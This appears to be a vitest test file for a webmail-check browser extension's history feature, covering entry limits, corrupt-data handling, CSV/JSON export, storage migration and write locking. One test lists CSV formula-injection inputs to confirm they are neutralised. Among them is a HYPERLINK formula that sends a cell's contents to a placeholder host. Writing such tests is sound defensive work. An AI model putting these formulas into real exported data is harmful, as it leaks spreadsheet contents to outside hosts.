import { beforeEach, describe, expect, it } from 'vitest';
import { fakeBrowser } from 'wxt/testing/fake-browser';
import { csvCell, csvSeparatorFor, type HistoryEntry, historyCsv, historyJson, recordEntry } from '../../core/history';
import { historyLimit } from '../../core/limits';
import { parseHistory } from '../../core/stored/history';
import type { OpenedState } from '../../core/wizard-state';
import { loadHistory, recordVerdict } from '../../platform/history';
import { historyItem } from '../../platform/storage/reports';

const entry = (at: number, over: Partial<HistoryEntry> = {}): HistoryEntry => ({
  at,
  providerId: 'aruba',
  providerName: 'Aruba',
  webmailUrl: 'https://webmail.aruba.it/',
  verdict: 'mail-service',
  reason: 'login-refused',
  answers: { outcome: 'login-failed', followUp: 'password-sure' },
  results: null,
  ...over,
});

describe('history (pure)', () => {
  it('keeps the newest first and at most 50', () => {
    let history: HistoryEntry[] = [];
    for (let at = 1; at <= 60; at++) history = recordEntry(history, entry(at));
    expect(history).toHaveLength(historyLimit);
    expect(history[0]?.at).toBe(60);
    expect(history.at(-1)?.at).toBe(11);
  });

  it('updates the entry of the same check instead of adding one', () => {
    const history = recordEntry([entry(5)], entry(5, { verdict: 'password', reason: 'password-unsure' }));
    expect(history).toEqual([entry(5, { verdict: 'password', reason: 'password-unsure' })]);
  });

  it('drops corrupt entries and keeps the rest', () => {
    const stored = [
      entry(3),
      null,
      'x',
      { ...entry(4), verdict: 'exploded' },
      { ...entry(5), webmailUrl: 'not a url' },
      { ...entry(6), at: 'yesterday' },
      { ...entry(7), answers: { outcome: 'works', passwordSure: 'maybe' }, results: [{ kind: 'nope' }] },
    ];
    const parsed = parseHistory(stored);
    expect(parsed.map((e) => e.at)).toEqual([7, 3]);
    expect(parsed[0]).toMatchObject({ answers: { outcome: 'works' }, results: [] });
  });

  it.each([1e20, -1, Number.MAX_VALUE])('drops an entry whose time Date cannot format (%s)', (at) => {
    expect(parseHistory([{ ...entry(3) }, { ...entry(4), at }]).map((e) => e.at)).toEqual([3]);
    expect(parseHistory([{ ...entry(3), answeredAt: at }])[0]?.answeredAt).toBeUndefined();
  });

  it.each([
    ['=HYPERLINK("https://x.example/?"&G2,"Open")', `"'=HYPERLINK(""https://x.example/?""&G2,""Open"")"`],
    ['=1+2@gmail.com', "'=1+2@gmail.com"],
    ['+39 333', "'+39 333"],
    ['-5', "'-5"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', `"'\rcmd"`],
    ['Aruba', 'Aruba'],
    ['Studio; Rossi', 'Studio; Rossi'],
  ])('a CSV cell is never a live formula: %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('uses ; where the locale writes decimals with a comma (Italian Excel), quoting cells that hold it', () => {
    expect(csvSeparatorFor('it')).toBe(';');
    expect(csvSeparatorFor('en')).toBe(',');
    expect(csvCell('Studio; Rossi', ';')).toBe('"Studio; Rossi"');
    const csv = historyCsv([entry(0, { providerName: 'A; B' })], {
      header: ['a', 'b'],
      verdictName: () => 'x',
      when: () => 'w',
      separator: ';',
    });
    expect(csv.split('\r\n')[1]).toBe('w;1970-01-01T00:00:00.000Z;"A; B";mail-service;x;login-refused;;;');
  });

  it.each([undefined, null, {}, 'history', 42])('reads %j as an empty history', (value) => {
    expect(parseHistory(value)).toEqual([]);
  });

  it('exports CSV with quoting, and JSON with a format name and version', () => {
    const csv = historyCsv([entry(Date.parse('2026-11-25T08:00:00Z'), { providerName: 'Studio "A", B' })], {
      header: ['when', 'iso_time', 'provider', 'verdict', 'verdict_name', 'reason', 'address'],
      verdictName: () => 'Mail service',
      when: () => '25/11/2026',
      client: 'Studio Rossi',
      person: 'Anna',
    });
    expect(csv).toBe(
      '\uFEFFwhen,iso_time,provider,verdict,verdict_name,reason,address\r\n' +
        '25/11/2026,2026-11-25T08:00:00.000Z,"Studio ""A"", B",mail-service,Mail service,login-refused,,Studio Rossi,Anna',
    );
    expect(JSON.parse(historyJson([entry(1)]))).toEqual({
      format: 'webmail-first-history',
      version: 1,
      entries: [entry(1)],
    });
  });
});

describe('history storage', () => {
  beforeEach(() => {
    fakeBrowser.reset();
  });

  const finished: OpenedState = {
    stage: 'opened',
    providerId: 'aruba',
    openedAt: 100,
    answers: { outcome: 'works' },
    checkRequestedAt: 100,
    address: 'info@studio-rossi.it',
    answeredAt: null,
  };
  const noEvidence = { internet: 'unknown', webmail: 'unknown' } as const;

  it('records a finished check once, with the typed address, and updates it when the verdict changes', async () => {
    await recordVerdict(finished, null, noEvidence);
    await recordVerdict(finished, null, noEvidence);
    expect(await loadHistory()).toEqual([
      {
        at: 100,
        providerId: 'aruba',
        providerName: 'Aruba',
        webmailUrl: 'https://webmail.aruba.it/',
        verdict: 'mail-client',
        reason: 'webmail-works',
        answers: { outcome: 'works' },
        results: null,
        address: 'info@studio-rossi.it',
      },
    ]);
    await recordVerdict({ ...finished, answers: { outcome: 'inbox-failed' } }, null, noEvidence);
    expect((await loadHistory()).map((e) => e.verdict)).toEqual(['mail-service']);
  });

  it('records nothing while a question is open', async () => {
    await recordVerdict({ ...finished, answers: {} }, null, noEvidence);
    expect(await loadHistory()).toEqual([]);
  });

  it('reads data stored without a version as version 1, and survives corrupt stored data', async () => {
    await fakeBrowser.storage.local.set({ history: [entry(1)] });
    await historyItem.migrate();
    expect(await loadHistory()).toEqual([entry(1)]);
    await fakeBrowser.storage.local.set({ history: [entry(2), { broken: true }] });
    expect((await loadHistory()).map((e) => e.at)).toEqual([2]);
  });

  it('migrates a future shape change through the item definition', async () => {
    // The path a change of shape takes: a new version with a migration, run by @wxt-dev/storage on first use.
    const { storage } = await import('@wxt-dev/storage');
    await fakeBrowser.storage.local.set({ demo: [entry(1)], demo$: { v: 1 } });
    const v2 = storage.defineItem<{ entries: HistoryEntry[] }>('local:demo', {
      fallback: { entries: [] },
      version: 2,
      migrations: { 2: (old: HistoryEntry[]) => ({ entries: old }) },
    });
    await v2.migrate();
    expect(await v2.getValue()).toEqual({ entries: [entry(1)] });
  });
});

describe("the history's writers take turns", () => {
  it('a clear made while a verdict is being recorded is not undone by that write', async () => {
    const { clearHistory, loadHistory, recordVerdict } = await import('../../platform/history');
    const { withLock } = await import('../../platform/lock');
    const { historyItem } = await import('../../platform/storage/reports');
    await historyItem.setValue([]);
    const opened = {
      stage: 'opened' as const,
      providerId: 'aruba',
      address: null,
      openedAt: 100,
      checkRequestedAt: 100,
      answers: { outcome: 'works' as const },
      answeredAt: 200,
    };
    // The record starts first, the clear is asked while it runs: they take turns, in order.
    let release: () => void = () => undefined;
    const held = withLock(
      'history',
      () =>
        new Promise<void>((done) => {
          release = done;
        }),
    );
    const recording = recordVerdict(opened, null, { internet: 'unknown', webmail: 'unknown' });
    const clearing = clearHistory();
    await new Promise((tick) => setTimeout(tick, 0));
    release();
    await Promise.all([held, recording, clearing]);
    expect(await loadHistory()).toEqual([]);
  });
});
